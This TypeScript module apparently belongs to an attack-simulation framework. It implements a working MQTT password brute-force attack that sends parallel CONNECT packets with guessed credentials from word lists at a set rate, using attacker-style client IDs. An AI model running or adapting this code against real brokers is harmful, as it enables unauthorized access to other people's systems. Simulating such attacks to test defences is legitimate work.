// Password guessing: a connection and a CONNECT for each guess, several in parallel.

import { once } from 'node:events'
import type { Attack, Attacker } from '../attacker.js'
import { connectPacket } from '../packets.js'
import { PASSWORDS, USERS } from './words.js'

const MAX_GUESSES = 1_500

async function guess(attacker: Attacker, clientId: string): Promise<void> {
  const { random } = attacker
  const socket = await attacker.connect()
  if (socket === null) return
  const username = random.chance(0.8) ? random.oneOf(USERS.slice(0, 4)) : random.oneOf(USERS)
  const password = random.oneOf(PASSWORDS) + (random.chance(0.4) ? String(random.integer(0, 2_030)) : '')
  await attacker.send(socket, connectPacket({ clientId, username, password, keepalive: 60 }))
  // Stop at any response or close.
  await Promise.race([once(socket, 'data'), once(socket, 'close'), attacker.pause(2_000)]).catch(() => {})
  socket.end()
}

/** Brute-force login. */
export const bruteForce: Attack = {
  name: 'brute-force',
  summary: 'brute-force login: 3 to 5 addresses, 4 tasks each, about 15 guesses a second from each address',
  attackers: [3, 5],
  async run(attacker) {
    const { random } = attacker
    const fixedId = random.chance(0.5) ? `mqttpwn-${random.hex(6)}` : null
    let guesses = 0
    const task = async (): Promise<void> => {
      while (!attacker.over && guesses++ < MAX_GUESSES) {
        await guess(attacker, fixedId === null ? random.text(12) : `${fixedId}-${guesses}`)
        await attacker.pause(random.between(150, 350))
      }
    }
    await Promise.all(Array.from({ length: 4 }, task))
  }
}
